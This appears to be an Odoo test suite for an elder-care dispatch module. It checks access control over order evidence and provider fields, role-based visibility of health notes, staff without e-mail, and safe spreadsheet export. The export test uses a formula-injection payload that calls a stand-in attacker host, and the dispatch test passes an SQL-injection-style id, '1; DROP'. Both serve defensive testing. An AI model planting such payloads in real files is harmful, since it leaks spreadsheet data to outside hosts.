"""What a client may not write, who may act on a visit, and staff without an
e-mail address (issue 14, items 2, 8, 17 and 23)."""

import base64
import io

import openpyxl

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import new_test_user, tagged

from .common import DispatchCase
from .test_visit import PNG


@tagged("post_install", "-at_install")
class TestGuard(DispatchCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.worker_user = new_test_user(
            cls.env,
            login="cc_worker",
            groups="base.group_user,fieldservice.group_fsm_user",
        )
        cls.worker = cls.env["fsm.person"].create(
            {
                "name": "上门阿姨",
                "partner_id": cls.worker_user.partner_id.id,
                "care_provider_id": cls.good.id,
            }
        )
        cls.other_worker_user = new_test_user(
            cls.env,
            login="cc_worker2",
            groups="base.group_user,fieldservice.group_fsm_user",
        )

    def dispatched(self, **vals):
        order = self.make_order(**vals)
        order.with_user(self.agent).action_care_dispatch(self.good.id)
        return order

    # ------------------------------------------------------------------
    # item 2: the order's provider, evidence and escalation
    # ------------------------------------------------------------------
    def test_dispatcher_cannot_write_evidence_or_provider(self):
        order = self.dispatched()
        before = order.read(
            [
                "care_provider_id",
                "care_dispatched_at",
                "care_checkin_at",
                "care_checkin_latitude",
                "care_escalated",
            ]
        )
        as_agent = order.with_user(self.agent)
        for vals in (
            {"care_provider_id": self.cheap.id},
            {"care_dispatched_at": "2020-01-01 00:00:00"},
            {"care_accepted_at": "2020-01-01 00:00:00"},
            {"care_checkin_at": "2020-01-01 00:00:00"},
            {"care_checkout_at": "2020-01-01 00:00:00"},
            {"care_checkin_latitude": 1.0, "care_checkin_longitude": 2.0},
            {"care_escalated": True},
            {"care_has_health_notes": False},
            {"care_volunteer_hours": 99.0},
        ):
            with self.subTest(vals=vals), self.assertRaises(AccessError) as caught:
                as_agent.write(vals)
            self.assertIn("set by the system", str(caught.exception))
        order.invalidate_recordset()
        self.assertEqual(
            order.read(
                [
                    "care_provider_id",
                    "care_dispatched_at",
                    "care_checkin_at",
                    "care_checkin_latitude",
                    "care_escalated",
                ]
            ),
            before,
        )
        with self.assertRaisesRegex(AccessError, "set by the system"):
            self.env["fsm.order"].with_user(self.agent).create(
                {
                    "care_elder_id": self.elder.id,
                    "care_category_id": self.housekeeping.id,
                    "care_checkin_at": "2020-01-01 00:00:00",
                }
            )
        self.assertFalse(
            self.env["fsm.order"].search(
                [
                    ("care_elder_id", "=", self.elder.id),
                    ("care_checkin_at", "!=", False),
                ]
            )
        )

    def test_dispatched_order_keeps_its_service_and_elder(self):
        order = self.make_order()
        as_agent = order.with_user(self.agent)
        # before the dispatch, the request may still be corrected
        as_agent.write({"care_category_id": self.rehab.id})
        as_agent.write({"care_category_id": self.housekeeping.id})
        as_agent.action_care_dispatch(self.good.id)
        other = self.env["care.elder"].create(
            {"name": "另一位老人", "street": "红庙北里1号", "city": "朝阳区"}
        )
        for vals in (
            {"care_category_id": self.rehab.id},
            {"care_elder_id": other.id},
        ):
            with (
                self.subTest(vals=vals),
                self.assertRaisesRegex(UserError, "decide the price"),
            ):
                as_agent.write(vals)
        self.assertEqual(order.care_category_id, self.housekeeping)
        self.assertEqual(order.care_elder_id, self.elder)
        # writing the same value (a form saving everything) is not a change
        as_agent.write({"care_category_id": self.housekeeping.id})

    def test_only_dispatchers_dispatch(self):
        order = self.make_order()
        for user in (self.receptionist, self.worker_user, self.coordinator):
            with self.subTest(user=user.login), self.assertRaises(AccessError):
                order.with_user(user).action_care_dispatch(self.good.id)
        self.assertFalse(order.care_provider_id)
        with self.assertRaisesRegex(UserError, "by its id"):
            order.with_user(self.agent).action_care_dispatch("1; DROP")
        order.with_user(self.agent).action_care_dispatch(self.good.id)
        order.with_user(self.agent).action_care_checkin()
        with self.assertRaisesRegex(UserError, "already under way"):
            order.with_user(self.agent).action_care_dispatch(self.cheap.id)
        self.assertEqual(order.care_provider_id, self.good)

    def test_only_the_worker_or_a_dispatcher_records_the_visit(self):
        order = self.dispatched(person_id=self.worker.id)
        for user in (self.receptionist, self.other_worker_user, self.coordinator):
            with self.subTest(user=user.login), self.assertRaises(AccessError):
                order.with_user(user).action_care_checkin(39.9, 116.4)
        self.assertFalse(order.care_checkin_at)
        as_worker = order.with_user(self.worker_user)
        with self.assertRaisesRegex(UserError, "in degrees"):
            as_worker.action_care_checkin("39.9", [1])
        with self.assertRaisesRegex(UserError, "not on the earth"):
            as_worker.action_care_checkin(391.0, 116.4)
        as_worker.action_care_checkin(39.9, 116.4)
        first = order.care_checkin_at
        with self.assertRaisesRegex(UserError, "already checked in"):
            as_worker.action_care_checkin(0.0, 0.0)
        self.assertEqual(order.care_checkin_at, first)
        self.assertAlmostEqual(order.care_checkin_latitude, 39.9)
        with self.assertRaises(AccessError):
            order.with_user(self.other_worker_user).action_care_checkout()
        as_worker.action_care_checkout()
        with self.assertRaisesRegex(UserError, "already checked out"):
            as_worker.action_care_checkout()
        self.env["ir.attachment"].create(
            {
                "name": "p.png",
                "datas": PNG,
                "res_model": "fsm.order",
                "res_id": order.id,
            }
        )
        with self.assertRaises(AccessError):
            order.with_user(self.other_worker_user).action_complete()
        self.assertFalse(order.is_closed)
        as_worker.action_complete()
        self.assertTrue(order.is_closed)
        # the signature of a closed order is evidence
        with self.assertRaisesRegex(UserError, "signature of a closed order"):
            order.with_user(self.agent).write({"signature": PNG})

    # ------------------------------------------------------------------
    # item 23: stored results of the call centre's other models
    # ------------------------------------------------------------------
    def test_results_are_not_client_writable(self):
        coordinator = self.good.with_user(self.coordinator)
        for vals in (
            {"rating": 5.0},
            {"state": "approved"},
            {"approved_on": "2020-01-01"},
            {"score_on_time": 100.0},
            {"needs_review": False},
        ):
            with self.subTest(vals=vals), self.assertRaises(AccessError):
                coordinator.write(vals)
        self.assertEqual(self.good.rating, 4.5)
        # the workflow's buttons still work for the coordinator
        applying = self.make_provider("新申请公司", approve=False)
        applying.with_user(self.coordinator).action_approve()
        self.assertEqual(applying.state, "approved")
        with self.assertRaises(AccessError):
            applying.with_user(self.agent).action_terminate()
        self.assertEqual(applying.state, "approved")
        call = self.env["care.call"].with_user(self.agent).create({"number": "1"})
        with self.assertRaises(AccessError):
            call.write({"duration": 99.0})
        answer = self.env["care.knowledge"].create(
            {"name": "问", "answer": "<p>答</p>"}
        )
        manager = new_test_user(
            self.env,
            login="cc_kb_manager",
            groups="base.group_user,elder_crm.group_care_manager",
        )
        with self.assertRaisesRegex(AccessError, "set by the system"):
            answer.with_user(manager).write({"use_count": 99})
        self.assertEqual(answer.use_count, 0)
        with self.assertRaises(AccessError):
            self.elder.with_user(self.agent).write({"care_visit_tier": "high"})
        with self.assertRaises(AccessError):
            self.elder.with_user(self.agent).write(
                {"care_last_visit": "2020-01-01 00:00:00"}
            )
        self.assertFalse(self.elder.care_last_visit)

    def test_callback_result_recorded_once(self):
        order = self.dispatched()
        Callback = self.env["care.callback"].with_user(self.agent)
        with self.assertRaisesRegex(ValidationError, "not completed"):
            with self.env.cr.savepoint():
                Callback.create({"order_id": order.id, "rating": 1})
        self.assertFalse(order.care_callback_ids)
        order.action_care_checkin()
        order.action_care_checkout()
        self.env["ir.attachment"].create(
            {
                "name": "p.png",
                "datas": PNG,
                "res_model": "fsm.order",
                "res_id": order.id,
            }
        )
        order.action_complete()
        callback = Callback.create(
            {"order_id": order.id, "rating": 2, "is_complaint": True}
        )
        self.assertEqual(callback.complaint_state, "open")
        for vals in (
            {"rating": 5},
            {"is_complaint": False},
            {"complaint_state": "resolved"},
        ):
            with self.subTest(vals=vals), self.assertRaises(AccessError):
                callback.write(vals)
        self.assertEqual((callback.rating, callback.complaint_state), (2, "open"))
        self.assertEqual(self.good.rating, 2.0)
        with self.assertRaises(AccessError):
            Callback.create(
                {"order_id": order.id, "rating": 5, "complaint_state": "resolved"}
            )

    # ------------------------------------------------------------------
    # item 8: health details on orders
    # ------------------------------------------------------------------
    def test_health_details_only_for_who_may_read_them(self):
        self.elder.condition_ids = self.env.ref("elder_crm.condition_dementia")
        self.assertTrue(self.elder.has_dementia)
        order = self.make_order()
        # the notes everyone reads say there is something, not what
        self.assertNotIn("青霉素", order.care_worker_notes)
        self.assertNotIn("Memory", order.care_worker_notes)
        self.assertIn("ask the care coordinator", order.care_worker_notes)
        self.assertTrue(order.care_has_health_notes)
        # the dispatcher reads allergies, not the diagnosis
        notes = order.with_user(self.agent).care_health_notes
        self.assertIn("青霉素", notes)
        self.assertNotIn("Memory", notes)
        # a medical role (reception, here also a Field Service user) reads both
        medic = new_test_user(
            self.env,
            login="cc_medic",
            groups="base.group_user,elder_crm.group_care_reception,"
            "fieldservice.group_fsm_user",
        )
        medical_notes = order.with_user(medic).care_health_notes
        self.assertIn("青霉素", medical_notes)
        self.assertIn("Memory", medical_notes)
        # a worker reads neither
        worker_order = order.with_user(self.worker_user)
        self.assertTrue(worker_order.care_worker_notes)
        with self.assertRaises(AccessError):
            worker_order.read(["care_health_notes"])
        # the visiting-duty reason names dementia only to the medical roles
        self.elder.state = "active"
        self.assertEqual(self.elder.care_visit_tier, "priority")
        reason = self.elder.with_user(self.agent).care_visit_tier_reason
        self.assertNotIn("ementia", reason)
        self.assertIn("health reason", reason)
        self.assertEqual(
            self.elder.with_user(self.receptionist).care_visit_tier_reason, "Dementia"
        )

    # ------------------------------------------------------------------
    # item 17: staff without an e-mail address
    # ------------------------------------------------------------------
    def test_staff_without_email_dispatch_visit_and_call_back(self):
        mailless = new_test_user(
            self.env,
            login="cc_no_mail",
            email=False,
            groups="base.group_user,elder_crm.group_care_dispatcher",
        )
        self.assertFalse(mailless.email)
        lead = self.env.ref("base.user_admin")
        self.env["ir.config_parameter"].set_param(
            "care_dispatch.lead_user_id", str(lead.id)
        )
        # the real mail flow: no context switching mail off
        env = self.env(context={})
        Call = env["care.call"].with_user(mailless)
        pop = Call.cti_incoming("139-0000-2222")
        call = Call.browse(pop["call_id"])
        order = (
            env["fsm.order"]
            .with_user(mailless)
            .with_context(**call.action_new_request()["context"])
            .create({"care_category_id": self.housekeeping.id})
        )
        order.action_care_dispatch()
        self.assertTrue(order.care_provider_id)
        self.assertIn("Dispatched to", "".join(order.sudo().message_ids.mapped("body")))
        order.action_care_accept()
        order.action_care_checkin(39.9, 116.4)
        order.action_care_checkout()
        env["ir.attachment"].create(
            {
                "name": "p.png",
                "datas": PNG,
                "res_model": "fsm.order",
                "res_id": order.id,
            }
        )
        order.action_complete()
        self.assertTrue(order.is_closed)
        env["care.callback"].with_user(mailless).create(
            {"order_id": order.id, "rating": 5}
        )
        self.assertEqual(len(order.care_callback_ids), 1)
        emergency = Call.create({"number": "021-5555 6666"})
        emergency.action_emergency()
        self.assertIn(lead, emergency.sudo().activity_ids.user_id)

    # ------------------------------------------------------------------
    # item 5: the bureau's sheet
    # ------------------------------------------------------------------
    def test_export_writes_text_never_formulas(self):
        formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
        self.elder.name = formula
        order = self.dispatched()
        order.action_care_checkin()
        order.action_care_checkout()
        self.env["ir.attachment"].create(
            {
                "name": "p.png",
                "datas": PNG,
                "res_model": "fsm.order",
                "res_id": order.id,
            }
        )
        order.action_complete()
        self.good.name = "+1+2"
        manager = new_test_user(
            self.env,
            login="cc_manager_x",
            groups="base.group_user,elder_crm.group_care_manager",
        )
        export = self.env["care.service.export"].with_user(manager).create({})
        export.action_export()
        sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(export.file))).active
        rows = list(sheet.iter_rows(min_row=2))
        [line] = [row for row in rows if row[0].value == order.name]
        self.assertEqual(line[1].value, formula)
        self.assertEqual(line[1].data_type, "s", "a string, not a formula")
        self.assertEqual(line[7].value, "+1+2")
        self.assertEqual(line[7].data_type, "s")
        self.assertFalse(
            [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        )
